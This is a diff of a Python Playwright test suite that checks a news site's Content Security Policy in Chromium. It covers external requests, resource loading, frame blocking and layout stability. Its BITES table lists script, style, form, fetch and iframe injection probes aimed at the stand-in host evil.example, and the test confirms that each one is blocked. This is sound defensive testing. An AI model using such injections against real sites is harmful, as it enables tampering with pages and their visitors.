@@ -1,38 +1,81 @@
 """The pages' security policy holds in a real browser: it lets everything of ours through, and it bites."""
 
+import re
 import shutil
 import threading
 from collections.abc import Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass, field
+from datetime import timedelta
 from functools import partial
 from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
-from io import BytesIO
 from pathlib import Path
+from typing import Any
 
 import pytest
 from PIL import Image
-from playwright.sync_api import Browser, Page, sync_playwright
+from playwright.sync_api import Browser, Page, Route, expect, sync_playwright
 
 from newsdesk.audio import ffmpeg
 from newsdesk.site.build import build
 from newsdesk.site.edition import Sound
 from tests.builders import TODAY
-from tests.site.desk import ROOT, a_desk, timedelta
+from tests.site.desk import ROOT, a_desk
 from tests.site.test_headers import rules
 
 PROGRAMS = ("chromium", "chromium-browser", "google-chrome")
 TEMPLATES = (
     "index.html", "bai/bep-sach.html", "bai/bai-1.html", "trang/gioi-thieu.html", "linh-vuc/index.html",
     "linh-vuc/doi-song.html", "don-vi/index.html", "loai/index.html", "nam/index.html", "nam/2026/trang-2.html",
-    "the/index.html", "404.html",
+    "the/index.html",
 )  # fmt: skip
 LISTEN = """
 addEventListener("securitypolicyviolation", (event) => {
   (globalThis.broken ||= []).push(`${event.effectiveDirective} ${event.blockedURI}`);
 });
 """
-SCROLL = "async () => { for (const i of document.images) i.loading = 'eager'; scrollTo(0, 1e6); await document.fonts.ready; }"
+ALL_OF_IT = """async () => {
+  for (const picture of document.images) picture.loading = "eager";
+  await Promise.all([...document.images].map((picture) => picture.decode().catch(() => 0)));
+  await document.fonts.ready;
+}"""
+FOUND = """async () => {
+  const audio = document.querySelector("audio");
+  await new Promise((done) => { audio.onloadedmetadata = audio.onerror = done; audio.preload = "metadata"; audio.load(); });
+  return {
+    script: document.documentElement.classList.contains("js"),
+    paper: getComputedStyle(document.body).backgroundColor,
+    fonts: (await document.fonts.load("1rem Literata", "Bếp")).map((font) => font.status),
+    pictures: [...document.images].map((one) => [one.currentSrc.split(".").pop(), one.naturalWidth > 0]),
+    sound: audio.duration,
+  };
+}"""
+SMUGGLE = """async () => {
+  const B = document.body, E = "https://evil.example/x";
+  const broken = new Promise((done) => {
+    addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective));
+    setTimeout(() => done("nothing was stopped"), 4000);
+  });
+  %s;
+  return [await broken, typeof globalThis.ran, getComputedStyle(B).outlineStyle];
+}"""
+AHEAD = re.compile("font|net::ERR_FAILED")
+SIDES = "[...document.images].map((one) => [one.offsetTop, one.offsetHeight, one.offsetWidth])"
+BITES = {
+    "script": ("script-src-elem", "const e = document.createElement('script'); e.textContent = 'ran = 1'; B.append(e)"),
+    "handler": ("script-src-attr", "B.setAttribute('onclick', 'ran = 1'); B.click()"),
+    "address": ("script-src-elem", "B.innerHTML = '<a href=\"javascript:ran=1\">x</a>'; B.firstChild.click()"),
+    "far script": ("script-src-elem", "const e = document.createElement('script'); e.src = E; B.append(e)"),
+    "style": ("style-src-elem", "B.innerHTML = '<style>body { outline: 9px solid red }</style>'"),
+    "style of one": ("style-src-attr", "B.setAttribute('style', 'outline: 9px solid red')"),
+    "far picture": ("img-src", "B.innerHTML = `<img src=${E}>`"),
+    "frame": ("frame-src", "B.innerHTML = `<iframe src=${E}></iframe>`"),
+    "base": ("base-uri", "document.head.innerHTML = `<base href=${E}>`"),
+    "form": ("form-action", "B.innerHTML = `<form action=${E}><button>x</button></form>`; B.querySelector('button').click()"),
+    "call": ("connect-src", "fetch(E).catch(() => 0)"),
+    "object": ("object-src", "B.innerHTML = `<object data=${E}></object>`"),
+}  # fmt: skip
+"""What is tried (E: a place elsewhere), and what of the policy must stop it."""
 
 
 @pytest.fixture(scope="module")
@@ -74,6 +117,13 @@ def served(folder: Path) -> Iterator[str]:
     class Answer(SimpleHTTPRequestHandler):
         extensions_map = SimpleHTTPRequestHandler.extensions_map | {".avif": "image/avif", ".woff2": "font/woff2"}
 
+        def do_GET(self) -> None:
+            if self.path == "/favicon.ico":  # asked for by the browser itself
+                self.send_response(204)
+                self.end_headers()
+            else:
+                super().do_GET()
+
         def end_headers(self) -> None:
             for path, having in told.items():
                 if self.path == path or (path.endswith("*") and self.path.startswith(path[:-1])):
@@ -81,7 +131,7 @@ def served(folder: Path) -> Iterator[str]:
                         self.send_header(name, value)
             super().end_headers()
 
-        def log_message(self, format: str, *args: object) -> None:
+        def log_message(self, *_: object) -> None:
             pass
 
     with ThreadingHTTPServer(("127.0.0.1", 0), partial(Answer, directory=str(folder))) as server:
@@ -90,14 +140,11 @@ def served(folder: Path) -> Iterator[str]:
         server.shutdown()
 
 
-@pytest.fixture(scope="module", params=["server", "disk"])
-def home(request: pytest.FixtureRequest, printed: Path) -> Iterator[str]:
-    """The website from a server and, as an editor opens it, straight from the disk."""
-    if request.param == "disk":
-        yield printed.as_uri()
-    else:
-        with served(printed) as address:
-            yield address
+@pytest.fixture(scope="module")
+def homes(printed: Path) -> Iterator[dict[str, str]]:
+    """The website's address on a server and, as an editor opens it, straight from the disk."""
+    with served(printed) as address:
+        yield {"server": address, "disk": printed.as_uri()}
 
 
 @dataclass
@@ -115,9 +162,10 @@ class Visit:
 
 
 @contextmanager
-def visiting(browser: Browser, address: str, *, width: int = 1280) -> Iterator[Visit]:
-    with browser.new_context(viewport={"width": width, "height": 900}) as context:
-        page = context.new_page()
+def visiting(browser: Browser, **context: Any) -> Iterator[Visit]:
+    """Give a page that is watched from its first request on."""
+    with browser.new_context(viewport={"width": 390, "height": 900}, **context) as fresh:
+        page = fresh.new_page()
         visit = Visit(page)
         page.add_init_script(LISTEN)
         page.on("request", lambda request: visit.asked.append(request.url))
@@ -125,96 +173,75 @@ def visiting(browser: Browser, address: str, *, width: int = 1280) -> Iterator[V
         page.on("response", lambda answer: visit.failed.append(answer.url) if answer.status >= 400 else None)
         page.on("console", lambda message: visit.said.append(message.text))
         page.on("pageerror", lambda fault: visit.said.append(str(fault)))
-        page.goto(address, wait_until="load")
         yield visit
 
 
-@pytest.mark.parametrize("name", TEMPLATES)
-def test_a_page_asks_nobody_else_and_breaks_no_policy(chromium: Browser, home: str, name: str) -> None:
-    with visiting(chromium, f"{home}/{name}") as visit:
-        visit.page.evaluate(SCROLL)
-        visit.page.wait_for_load_state("networkidle")
-        ours = home if name != "404.html" else (home, "https://example.vn/")
-        assert [url for url in visit.asked if not url.startswith(ours)] == []
-        if name != "404.html":  # it calls its files by the site's own address, which is not where a test runs
-            assert (visit.failed, visit.said, visit.violations()) == ([], [], [])
+@pytest.mark.parametrize("place", ["server", "disk"])
+def test_no_page_asks_anybody_else_or_breaks_its_policy(chromium: Browser, homes: dict[str, str], place: str) -> None:
+    with visiting(chromium) as visit:
+        for name in TEMPLATES:
+            visit.page.goto(f"{homes[place]}/{name}", wait_until="load")
+            visit.page.evaluate(ALL_OF_IT)
+            assert visit.violations() == [], name
+        assert [url for url in visit.asked if not url.startswith(homes[place])] == []
+        # From the disk Chromium fetches no font ahead of its style; it fetches it with the style.
+        ahead = "/theme/fonts/" if place == "disk" else "-"
+        assert [url for url in visit.failed if ahead not in url] == []
+        assert [words for words in visit.said if place == "server" or not AHEAD.search(words)] == []
 
 
-def test_fonts_script_pictures_and_sound_come_through(chromium: Browser, home: str) -> None:
-    with visiting(chromium, f"{home}/bai/bep-sach.html") as visit:
-        page = visit.page
-        page.evaluate(SCROLL)
-        page.wait_for_function("[...document.images].every((one) => one.complete)")
-        assert page.evaluate("document.documentElement.classList.contains('js')")
-        assert page.evaluate("[...document.fonts].some((one) => one.status === 'loaded')")
-        assert page.evaluate("getComputedStyle(document.body).backgroundColor") != "rgba(0, 0, 0, 0)"
-        shown = page.evaluate(
-            "[...document.images].map((one) => [one.currentSrc.split('.').pop(), one.naturalWidth > 0])"
-        )
-        assert shown == [["avif", True], ["avif", True]]
-        length = page.evaluate(
-            "() => new Promise((done) => { const a = document.querySelector('audio'); a.preload = 'metadata';"
-            " a.onloadedmetadata = () => done(a.duration); a.onerror = () => done(-1); a.load(); })"
-        )
-        assert length == pytest.approx(2, abs=0.2)
+@pytest.mark.parametrize("place", ["server", "disk"])
+def test_fonts_script_pictures_and_sound_come_through(chromium: Browser, homes: dict[str, str], place: str) -> None:
+    with visiting(chromium) as visit:
+        visit.page.goto(f"{homes[place]}/bai/bep-sach.html", wait_until="load")
+        visit.page.evaluate(ALL_OF_IT)
+        found = visit.page.evaluate(FOUND)
+        assert found["script"]
+        assert found["paper"] != "rgba(0, 0, 0, 0)"
+        assert found["fonts"] == ["loaded", "loaded"]
+        assert found["pictures"] == [["avif", True], ["avif", True]]
+        assert found["sound"] == pytest.approx(2, abs=0.2)
         assert visit.violations() == []
 
 
-BITES = {
-    "script within the page": ("script-src-elem", "const e = document.createElement('script'); e.textContent = 'ran = 1'; B.append(e)"),
-    "handler": ("script-src-attr", "B.setAttribute('onclick', 'ran = 1'); B.click()"),
-    "address of script": ("script-src-elem", "B.innerHTML = '<a id=x href=\"javascript:ran=1\">x</a>'; B.firstChild.click()"),
-    "script from elsewhere": ("script-src-elem", "const e = document.createElement('script'); e.src = 'https://evil.example/x.js'; B.append(e)"),
-    "words made script": ("script-src", "try { globalThis.eval('ran = 1') } catch {}"),
-    "style within the page": ("style-src-elem", "const e = document.createElement('style'); e.textContent = 'body { outline: 9px solid red }'; B.append(e)"),
-    "style of one element": ("style-src-attr", "B.setAttribute('style', 'outline: 9px solid red')"),
-    "picture from elsewhere": ("img-src", "B.innerHTML = '<img src=\"https://evil.example/x.png\">'"),
-    "frame": ("frame-src", "B.innerHTML = '<iframe src=\"https://evil.example/\"></iframe>'"),
-    "base": ("base-uri", "document.head.innerHTML += '<base href=\"https://evil.example/\">'"),
-    "form": ("form-action", "B.innerHTML = '<form action=\"https://evil.example/\"><button>x</button></form>'; B.querySelector('button').click()"),
-    "call": ("connect-src", "fetch('https://evil.example/').catch(() => 0)"),
-    "object": ("object-src", "B.innerHTML = '<object data=\"https://evil.example/\"></object>'"),
-}  # fmt: skip
-
-
-@pytest.mark.parametrize("what", BITES)
-def test_what_somebody_smuggled_in_has_no_effect(chromium: Browser, home: str, what: str) -> None:
-    directive, smuggled = BITES[what]
-    with visiting(chromium, f"{home}/bai/bep-sach.html") as visit:
-        visit.page.evaluate(f"() => {{ const B = document.body; {smuggled} }}")
-        visit.page.wait_for_function("globalThis.broken?.length", timeout=5000)
-        assert visit.violations()[0].startswith(directive)
-        assert visit.page.evaluate("typeof ran") == "undefined"
-        assert visit.page.evaluate("getComputedStyle(document.body).outlineStyle") == "none"
+@pytest.mark.parametrize("place", ["server", "disk"])
+def test_what_somebody_smuggled_in_has_no_effect(chromium: Browser, homes: dict[str, str], place: str) -> None:
+    with visiting(chromium) as visit:
+        for what, (directive, smuggled) in BITES.items():
+            visit.page.goto(f"{homes[place]}/bai/bep-sach.html", wait_until="commit")
+            visit.page.wait_for_selector("footer", state="attached")
+            broken, ran, outline = visit.page.evaluate(SMUGGLE % smuggled)
+            assert broken.startswith(directive), what
+            assert (ran, outline) == ("undefined", "none"), what
         assert not [url for url in visit.asked if "evil.example" in url and url not in visit.failed]
 
 
-def test_no_other_page_shows_ours_in_a_frame(chromium: Browser, printed: Path) -> None:
-    with served(printed) as address, chromium.new_context() as context:
-        page = context.new_page()
-        said: list[str] = []
-        page.on("console", lambda message: said.append(message.text))
-        page.set_content(f"<iframe src='{address}/index.html'></iframe>", wait_until="networkidle")
-        assert any("frame" in one.lower() for one in said)
-        assert all("Gương" not in frame.content() for frame in page.frames)
+def test_no_other_page_shows_ours_in_a_frame(chromium: Browser, homes: dict[str, str]) -> None:
+    with visiting(chromium) as visit:
+        visit.page.set_content(f"<iframe src='{homes['server']}/index.html'></iframe>", wait_until="load")
+        assert any("frame" in words.lower() for words in visit.said)
+        assert all("Gương" not in frame.content() for frame in visit.page.frames[1:])
 
 
-def test_nothing_moves_when_pictures_come(chromium: Browser, printed: Path) -> None:
-    moved = (
-        "new PerformanceObserver((l) => { globalThis.moved = (globalThis.moved || 0) + l.getEntries()"
-        ".reduce((s, e) => s + e.value, 0); }).observe({ type: 'layout-shift', buffered: true });"
-    )
-    with served(printed) as address, chromium.new_context(viewport={"width": 390, "height": 800}) as context:
-        page = context.new_page()
-        page.add_init_script(moved)
-        page.route("**/hinh/*", lambda route: (page.wait_for_timeout(300), route.continue_()))
-        page.goto(f"{address}/bai/bep-sach.html", wait_until="networkidle")
-        assert page.evaluate("globalThis.moved || 0") == 0
-        assert page.evaluate("document.images[0].getBoundingClientRect().height") > 100
+def test_a_link_that_leads_away_is_announced_as_one(chromium: Browser, homes: dict[str, str]) -> None:
+    with visiting(chromium) as visit:
+        visit.page.goto(f"{homes['server']}/bai/bep-sach.html", wait_until="load")
+        away = visit.page.get_by_role("link", name="ngoài", exact=True)
+        expect(away).to_have_accessible_description("mở trang khác")
+        assert visit.page.locator("[rel~=external]").count() == 1
+        assert visit.page.locator("[target]").count() == 0
 
 
-def test_pictures_of_tests_are_pictures() -> None:
-    """A browser that shows broken images as whole would make the tests above say nothing."""
-    stream = BytesIO()
-    Image.new("RGB", (2, 2)).save(stream, "AVIF")
-    assert stream.getvalue()[4:12] == b"ftypavif"
+def test_nothing_moves_when_pictures_come(chromium: Browser, homes: dict[str, str]) -> None:
+    with visiting(chromium) as visit:
+        late: list[Route] = []
+        visit.page.route("**/hinh/*", lambda route: late.append(route))
+        visit.page.goto(f"{homes['server']}/bai/bep-sach.html", wait_until="domcontentloaded")
+        before = visit.page.evaluate(SIDES)
+        visit.page.wait_for_timeout(200)
+        for route in late:
+            route.continue_()
+        visit.page.wait_for_load_state("load")
+        assert late
+        assert before[0][1] > 100
+        assert visit.page.evaluate(SIDES) == before
